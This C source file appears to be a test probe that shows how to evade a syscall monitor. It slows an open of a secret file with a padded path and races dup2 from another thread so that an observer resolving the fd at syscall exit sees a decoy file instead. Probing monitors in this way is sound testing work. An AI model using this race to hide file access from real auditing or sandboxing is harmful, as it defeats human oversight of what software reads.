/* a slow open (1500 "./" components) reserves fd N; another thread spins dup2(decoy,N): EBUSY until the file
 * is installed, then it replaces it at once. An observer that looks the fd up at sys_exit often finds the
 * decoy; what was opened is always the secret. */
#include "probe.h"
static volatile int stop, go, N;
static int decoy;
static char path[4096];
static void *sw(void *x) {
    (void)x;
    while (!stop) {
        if (!go)
            continue;
        for (volatile int k = 0; k < 1500; k++)
            ;
        while (go && !stop && syscall(SYS_dup2, decoy, N) < 0)
            ;
        go = 0;
    }
    return 0;
}
int main(void) {
    decoy = CK(open(T "/decoy", O_RDONLY));
    strcpy(path, T "/");
    for (int i = 0; i < 1500; i++)
        strcat(path, "./");
    strcat(path, "secret");
    N = CK(open("/dev/null", O_RDONLY));
    close(N);
    pthread_t t;
    pthread_create(&t, 0, sw, 0);
    long opens = 0, swapped = 0;
    double e = now() + 1.5;
    for (int i = 0; i < 1000 && now() < e; i++) {
        go = 1;
        long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
        if (fd < 0)
            FAIL("open: %s", strerror(errno));
        opens++;
        char b[16];
        ssize_t k = pread((int)fd, b, 16, 0);
        if (fd == N && k > 0 && b[0] == 'D')
            swapped++;
        double w = now() + 0.01;
        while (go && now() < w)
            ;
        go = 0;
        close((int)fd);
        close(N);
    }
    stop = 1;
    pthread_join(t, 0);
    fact_i("opens", opens);
    fact_i("swapped_before_read", swapped);
    if (!swapped)
        FAIL("no swap in %ld opens", opens);
    OK("%ld opens of the secret, fd swapped before the first read %ld times", opens, swapped);
}
